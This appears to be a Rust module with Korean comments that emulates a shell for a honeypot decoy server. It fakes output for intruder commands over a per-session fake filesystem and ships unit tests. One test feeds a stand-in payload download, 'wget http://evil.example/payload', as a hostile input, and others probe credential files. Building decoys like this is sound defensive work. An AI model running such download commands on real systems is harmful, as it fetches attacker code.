//! 가짜 셸 명령어 에뮬레이터
//!
//! 닫힌 루프 미끼 서버의 핵심 — 침입자가 치는 명령을 실제로 실행하지
//! 않고, 그럴듯한 출력만 만들어 돌려줍니다. 상태(파일시스템, 히스토리)는
//! 세션마다 독립이라 한 침입자가 만든 흔적이 다른 세션에 보이지 않습니다.
//!
//! 반환 규약: `Some(CommandOutput)` 이면 출력 + 새 cwd,
//! `None` 이면 exit/logout 신호입니다.

pub mod fs;

use chrono::Utc;
use fs::{fmt_mtime, perms_for, resolve_path, split_path, EntryKind, FakeFs};
use rand::Rng;
use std::collections::VecDeque;

const HISTSIZE: usize = 200;

/// rm 을 거부하는 파일들 — 미끼가 스스로 무너지면 안 됩니다
const PROTECTED_FILES: [&str; 4] = ["passwd", "shadow", "id_rsa", "wallet.dat"];

/// 명령 하나의 실행 결과
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandOutput {
    pub output: String,
    pub cwd: String,
}

struct FakeUser {
    uid: u32,
    gid: u32,
    home: &'static str,
}

fn fake_user(name: &str) -> Option<FakeUser> {
    match name {
        "root" => Some(FakeUser {
            uid: 0,
            gid: 0,
            home: "/root",
        }),
        "admin" => Some(FakeUser {
            uid: 1000,
            gid: 1000,
            home: "/home/admin",
        }),
        _ => None,
    }
}

fn group_name(gid: u32) -> &'static str {
    match gid {
        0 => "root",
        1000 => "admin",
        _ => "users",
    }
}

pub struct ShellEmulator {
    fs: FakeFs,
    history: VecDeque<String>,
}

impl ShellEmulator {
    pub fn new() -> Self {
        Self {
            fs: FakeFs::new(),
            history: VecDeque::new(),
        }
    }

    /// 명령 한 줄을 처리합니다. `user`/`host`는 프롬프트 정체성,
    /// `cwd`는 현재 디렉토리이며 반환값의 cwd가 다음 상태가 됩니다.
    pub fn handle_command(
        &mut self,
        command: &str,
        user: &str,
        host: &str,
        cwd: &str,
    ) -> Option<CommandOutput> {
        let cwd = cwd.to_string();

        let trimmed = command.trim();
        if trimmed.is_empty() {
            return Some(CommandOutput {
                output: String::new(),
                cwd,
            });
        }

        let parts: Vec<&str> = trimmed.split_whitespace().collect();
        let cmd = parts[0];
        let args = &parts[1..];

        self.history.push_back(command.to_string());
        if self.history.len() > HISTSIZE {
            self.history.pop_front();
        }

        match cmd {
            // ------- navigation -------
            "pwd" => Some(CommandOutput {
                output: format!("{}\n", cwd),
                cwd,
            }),

            "cd" => {
                let target = args.first().copied().unwrap_or("");
                if target.is_empty() || target == "~" {
                    let home = fake_user(user).map(|u| u.home).unwrap_or("/home/root");
                    return Some(CommandOutput {
                        output: String::new(),
                        cwd: home.to_string(),
                    });
                }
                let newpath = resolve_path(&cwd, target);
                if self.fs.is_dir(&newpath) {
                    return Some(CommandOutput {
                        output: String::new(),
                        cwd: newpath,
                    });
                }
                let (parent, name) = split_path(&newpath);
                let output = if self
                    .fs
                    .entries(&parent)
                    .map(|ns| ns.contains(&name))
                    .unwrap_or(false)
                {
                    format!("bash: cd: {}: Not a directory\n", target)
                } else {
                    format!("bash: cd: {}: No such file or directory\n", target)
                };
                Some(CommandOutput { output, cwd })
            }

            "ls" => Some(self.cmd_ls(args, cwd)),

            // ------- file contents -------
            "cat" => {
                if args.is_empty() {
                    return Some(CommandOutput {
                        output: "cat: missing file operand\n".to_string(),
                        cwd,
                    });
                }
                let target = args[0];
                let path = resolve_path(&cwd, target);
                let output = match self.fs.entry_kind(&path) {
                    Some(EntryKind::File) => {
                        let (_, name) = split_path(&path);
                        self.fs
                            .content_of(&name)
                            .unwrap_or("(binary content)\n")
                            .to_string()
                    }
                    _ => format!("cat: {}: No such file or directory\n", target),
                };
                Some(CommandOutput { output, cwd })
            }

            "head" | "tail" => {
                if args.is_empty() {
                    return Some(CommandOutput {
                        output: format!("{}: missing file operand\n", cmd),
                        cwd,
                    });
                }
                let path = resolve_path(&cwd, args[0]);
                if self.fs.entry_kind(&path) != Some(EntryKind::File) {
                    return Some(CommandOutput {
                        output: format!("{}: {}: No such file or directory\n", cmd, args[0]),
                        cwd,
                    });
                }
                let (_, name) = split_path(&path);
                let content = self.fs.content_of(&name).unwrap_or("(binary content)\n");
                let lines: Vec<&str> = content.lines().collect();
                let count = 10;
                let slice: &[&str] = if cmd == "head" {
                    &lines[..lines.len().min(count)]
                } else {
                    &lines[lines.len().saturating_sub(count)..]
                };
                Some(CommandOutput {
                    output: format!("{}\n", slice.join("\n")),
                    cwd,
                })
            }

            "echo" => Some(CommandOutput {
                output: format!("{}\n", args.join(" ")),
                cwd,
            }),

            // ------- mutation (가짜 트리에만 반영) -------
            "touch" => {
                if args.is_empty() {
                    return Some(CommandOutput {
                        output: "touch: missing file operand\n".to_string(),
                        cwd,
                    });
                }
                let target = resolve_path(&cwd, args[0]);
                let (parent, name) = split_path(&target);
                let output = if self.fs.create_file(&parent, &name) {
                    String::new()
                } else {
                    format!("touch: cannot touch '{}': No such file or directory\n", args[0])
                };
                Some(CommandOutput { output, cwd })
            }

            "mkdir" => {
                if args.is_empty() {
                    return Some(CommandOutput {
                        output: "mkdir: missing operand\n".to_string(),
                        cwd,
                    });
                }
                let target = resolve_path(&cwd, args[0]);
                if self.fs.is_dir(&target) {
                    return Some(CommandOutput {
                        output: format!(
                            "mkdir: cannot create directory '{}': File exists\n",
                            args[0]
                        ),
                        cwd,
                    });
                }
                self.fs.create_dir(&target);
                Some(CommandOutput {
                    output: String::new(),
                    cwd,
                })
            }

            "rm" => {
                if args.is_empty() {
                    return Some(CommandOutput {
                        output: "rm: missing operand\n".to_string(),
                        cwd,
                    });
                }
                let target = resolve_path(&cwd, args[0]);
                let (parent, name) = split_path(&target);
                let exists = self
                    .fs
                    .entries(&parent)
                    .map(|ns| ns.contains(&name))
                    .unwrap_or(false);
                let output = if !exists {
                    format!("rm: cannot remove '{}': No such file or directory\n", args[0])
                } else if PROTECTED_FILES.contains(&name.as_str()) {
                    format!("rm: cannot remove '{}': Operation not permitted\n", args[0])
                } else {
                    self.fs.remove_file(&parent, &name);
                    String::new()
                };
                Some(CommandOutput { output, cwd })
            }

            // ------- identity -------
            "whoami" => Some(CommandOutput {
                output: format!("{}\n", user),
                cwd,
            }),

            "id" => {
                let (uid, gid) = fake_user(user).map(|u| (u.uid, u.gid)).unwrap_or((1000, 1000));
                let group = group_name(gid);
                Some(CommandOutput {
                    output: format!(
                        "uid={}({}) gid={}({}) groups={}\n",
                        uid, user, gid, group, group
                    ),
                    cwd,
                })
            }

            "groups" => {
                let gid = fake_user(user).map(|u| u.gid).unwrap_or(1000);
                Some(CommandOutput {
                    output: format!("{}\n", group_name(gid)),
                    cwd,
                })
            }

            // ------- system info -------
            "uname" => Some(CommandOutput {
                output: format!(
                    "Linux {} 5.15.0-91-generic #99-Ubuntu SMP x86_64 GNU/Linux\n",
                    host
                ),
                cwd,
            }),

            "date" => Some(CommandOutput {
                output: Utc::now().format("%a %b %d %H:%M:%S UTC %Y\n").to_string(),
                cwd,
            }),

            "uptime" => {
                let mut rng = rand::rng();
                let days: u32 = rng.random_range(0..=30);
                let hours: u32 = rng.random_range(0..=23);
                let mins: u32 = rng.random_range(0..=59);
                let users: u32 = rng.random_range(1..=10);
                Some(CommandOutput {
                    output: format!(
                        " {:02}:{:02} up {} days,  {} users,  load average: 0.00, 0.01, 0.05\n",
                        hours, mins, days, users
                    ),
                    cwd,
                })
            }

            "ps" => {
                let lines = [
                    "  PID TTY          TIME CMD",
                    "    1 ?        00:00:01 init",
                    "  233 ?        00:00:00 sshd",
                    " 1024 ?        00:00:04 nginx",
                    " 2020 pts/0    00:00:00 bash",
                    " 3030 pts/0    00:00:00 python3",
                ];
                Some(CommandOutput {
                    output: format!("{}\n", lines.join("\n")),
                    cwd,
                })
            }

            "ss" | "netstat" => Some(CommandOutput {
                output: "LISTEN 0      128         *:22       *:*    \n".to_string(),
                cwd,
            }),

            "ifconfig" | "ip" => Some(CommandOutput {
                output: "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n    inet 192.168.1.10  netmask 255.255.255.0  broadcast 192.168.1.255\n"
                    .to_string(),
                cwd,
            }),

            "sudo" => Some(CommandOutput {
                output: format!(
                    "{} is not in the sudoers file.  This incident will be reported.\n",
                    user
                ),
                cwd,
            }),

            "history" => {
                let out = self
                    .history
                    .iter()
                    .enumerate()
                    .map(|(i, h)| format!("{}  {}", i + 1, h))
                    .collect::<Vec<_>>()
                    .join("\n");
                Some(CommandOutput {
                    output: format!("{}\n", out),
                    cwd,
                })
            }

            "exit" | "logout" | "quit" => None,

            _ => Some(CommandOutput {
                output: format!("bash: {}: command not found\n", cmd),
                cwd,
            }),
        }
    }

    /// ls — `-l` 만 해석하고 나머지 플래그는 조용히 무시합니다
    fn cmd_ls(&self, args: &[&str], cwd: String) -> CommandOutput {
        let mut long = false;
        let mut target = "";
        for a in args {
            if *a == "-l" {
                long = true;
            } else if a.starts_with('-') {
                continue;
            } else {
                target = *a;
            }
        }

        let list_dir = if target.is_empty() {
            cwd.clone()
        } else {
            resolve_path(&cwd, target)
        };

        let items = match self.fs.entries(&list_dir) {
            Some(items) => items,
            None => {
                return CommandOutput {
                    output: format!("ls: cannot access '{}': No such file or directory\n", target),
                    cwd,
                }
            }
        };

        if !long {
            return CommandOutput {
                output: format!("{}\n", items.join("  ")),
                cwd,
            };
        }

        let mut lines = Vec::with_capacity(items.len());
        for name in items {
            let full = resolve_path(&list_dir, name);
            if self.fs.is_dir(&full) {
                let days: i64 = {
                    let mut rng = rand::rng();
                    rng.random_range(1..=90)
                };
                let mtime = Utc::now() - chrono::Duration::days(days);
                lines.push(format!(
                    "drwxr-xr-x 2 root root {:>6} {} {}",
                    4096,
                    fmt_mtime(&mtime),
                    name
                ));
            } else {
                let meta = self.fs.file_meta(name);
                lines.push(format!(
                    "{} 1 {} {} {:>6} {} {}",
                    perms_for(name),
                    meta.owner,
                    group_name(meta.gid),
                    meta.size,
                    fmt_mtime(&meta.mtime),
                    name
                ));
            }
        }
        CommandOutput {
            output: format!("{}\n", lines.join("\n")),
            cwd,
        }
    }
}

impl Default for ShellEmulator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(em: &mut ShellEmulator, cmd: &str, cwd: &str) -> CommandOutput {
        em.handle_command(cmd, "root", "server01", cwd).unwrap()
    }

    #[test]
    fn test_pwd() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "pwd", "/home/root");
        assert_eq!(r.output, "/home/root\n");
        assert_eq!(r.cwd, "/home/root");
    }

    #[test]
    fn test_cd_home_and_back() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "cd /etc", "/home/root");
        assert_eq!(r.output, "");
        assert_eq!(r.cwd, "/etc");

        // 인자 없는 cd 는 홈으로
        let r = run(&mut em, "cd", "/etc");
        assert_eq!(r.cwd, "/root");

        let r = run(&mut em, "cd ..", "/etc");
        assert_eq!(r.cwd, "/");
    }

    #[test]
    fn test_cd_errors() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "cd /etc/passwd", "/home/root");
        assert_eq!(r.output, "bash: cd: /etc/passwd: Not a directory\n");
        assert_eq!(r.cwd, "/home/root");

        let r = run(&mut em, "cd /no/where", "/home/root");
        assert_eq!(r.output, "bash: cd: /no/where: No such file or directory\n");
    }

    #[test]
    fn test_ls_short() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "ls", "/home/root");
        assert_eq!(r.output, "readme.txt  id_rsa  notes.txt\n");

        let r = run(&mut em, "ls /nope", "/home/root");
        assert!(r.output.starts_with("ls: cannot access '/nope'"));
    }

    #[test]
    fn test_ls_long() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "ls -l /etc", "/home/root");
        let lines: Vec<&str> = r.output.lines().collect();
        assert_eq!(lines.len(), 5);
        // passwd 는 world-readable, shadow 는 root 전용
        assert!(lines.iter().any(|l| l.starts_with("-rw-r--r--") && l.ends_with("passwd")));
        assert!(lines.iter().any(|l| l.starts_with("-rw-------") && l.ends_with("shadow")));
        // ssh 는 디렉토리
        assert!(lines.iter().any(|l| l.starts_with("drwxr-xr-x") && l.ends_with("ssh")));
    }

    #[test]
    fn test_cat() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "cat /etc/passwd", "/home/root");
        assert!(r.output.starts_with("root:x:0:0:root"));

        // 상대 경로
        let r = run(&mut em, "cat notes.txt", "/home/root");
        assert!(r.output.starts_with("TODO:"));

        let r = run(&mut em, "cat /etc/nope", "/home/root");
        assert_eq!(r.output, "cat: /etc/nope: No such file or directory\n");

        let r = run(&mut em, "cat", "/home/root");
        assert_eq!(r.output, "cat: missing file operand\n");

        // 목록엔 있는데 내용 테이블엔 없는 파일
        let r = run(&mut em, "cat /usr/bin/ls", "/home/root");
        assert_eq!(r.output, "(binary content)\n");
    }

    #[test]
    fn test_head_tail() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "head /etc/passwd", "/home/root");
        assert!(r.output.contains("root:x:0:0"));

        let r = run(&mut em, "tail /home/root/notes.txt", "/home/root");
        assert!(r.output.contains("update backups"));

        let r = run(&mut em, "head /nope", "/home/root");
        assert_eq!(r.output, "head: /nope: No such file or directory\n");
    }

    #[test]
    fn test_echo() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "echo hello   world", "/home/root");
        assert_eq!(r.output, "hello world\n");
    }

    #[test]
    fn test_touch_then_cat() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "touch /tmp/x.txt", "/home/root");
        assert_eq!(r.output, "");
        let r = run(&mut em, "cat /tmp/x.txt", "/home/root");
        assert_eq!(r.output, "");

        let r = run(&mut em, "touch /no/dir/x", "/home/root");
        assert!(r.output.starts_with("touch: cannot touch"));
    }

    #[test]
    fn test_mkdir() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "mkdir /tmp/work", "/home/root");
        assert_eq!(r.output, "");
        let r = run(&mut em, "cd /tmp/work", "/home/root");
        assert_eq!(r.cwd, "/tmp/work");

        let r = run(&mut em, "mkdir /tmp/work", "/home/root");
        assert!(r.output.contains("File exists"));
    }

    #[test]
    fn test_rm_protected() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "rm /etc/passwd", "/home/root");
        assert_eq!(r.output, "rm: cannot remove '/etc/passwd': Operation not permitted\n");
        // 그대로 남아 있어야 함
        let r = run(&mut em, "cat /etc/passwd", "/home/root");
        assert!(r.output.starts_with("root:x:"));
    }

    #[test]
    fn test_rm_ok() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "rm notes.txt", "/home/root");
        assert_eq!(r.output, "");
        let r = run(&mut em, "cat notes.txt", "/home/root");
        assert!(r.output.contains("No such file"));
    }

    #[test]
    fn test_identity_commands() {
        let mut em = ShellEmulator::new();
        assert_eq!(run(&mut em, "whoami", "/").output, "root\n");
        assert_eq!(
            run(&mut em, "id", "/").output,
            "uid=0(root) gid=0(root) groups=root\n"
        );
        assert_eq!(run(&mut em, "groups", "/").output, "root\n");

        let r = em.handle_command("id", "admin", "server01", "/").unwrap();
        assert_eq!(r.output, "uid=1000(admin) gid=1000(admin) groups=admin\n");
    }

    #[test]
    fn test_system_info() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "uname -a", "/");
        assert!(r.output.starts_with("Linux server01"));

        let r = run(&mut em, "uptime", "/");
        assert!(r.output.contains("load average"));

        let r = run(&mut em, "ps aux", "/");
        assert!(r.output.contains("PID TTY"));
        assert!(r.output.contains("sshd"));

        let r = run(&mut em, "ss", "/");
        assert!(r.output.contains("LISTEN"));
    }

    #[test]
    fn test_sudo_denied() {
        let mut em = ShellEmulator::new();
        let r = em.handle_command("sudo cat /etc/shadow", "admin", "server01", "/").unwrap();
        assert_eq!(
            r.output,
            "admin is not in the sudoers file.  This incident will be reported.\n"
        );
    }

    #[test]
    fn test_history() {
        let mut em = ShellEmulator::new();
        run(&mut em, "pwd", "/");
        run(&mut em, "ls", "/");
        let r = run(&mut em, "history", "/");
        let lines: Vec<&str> = r.output.lines().collect();
        assert_eq!(lines[0], "1  pwd");
        assert_eq!(lines[1], "2  ls");
        assert_eq!(lines[2], "3  history");
    }

    #[test]
    fn test_history_bounded() {
        let mut em = ShellEmulator::new();
        for i in 0..250 {
            run(&mut em, &format!("echo {}", i), "/");
        }
        let r = run(&mut em, "history", "/");
        let lines: Vec<&str> = r.output.lines().collect();
        assert_eq!(lines.len(), HISTSIZE);
    }

    #[test]
    fn test_exit_signals() {
        let mut em = ShellEmulator::new();
        assert!(em.handle_command("exit", "root", "server01", "/").is_none());
        assert!(em.handle_command("logout", "root", "server01", "/").is_none());
        assert!(em.handle_command("quit", "root", "server01", "/").is_none());
    }

    #[test]
    fn test_unknown_command() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "wget http://evil.example/payload", "/");
        assert_eq!(r.output, "bash: wget: command not found\n");
    }

    #[test]
    fn test_empty_command() {
        let mut em = ShellEmulator::new();
        let r = run(&mut em, "   ", "/home/root");
        assert_eq!(r.output, "");
        assert_eq!(r.cwd, "/home/root");
        // 빈 입력은 히스토리에 남지 않음
        let r = run(&mut em, "history", "/home/root");
        assert_eq!(r.output.lines().count(), 1);
    }
}
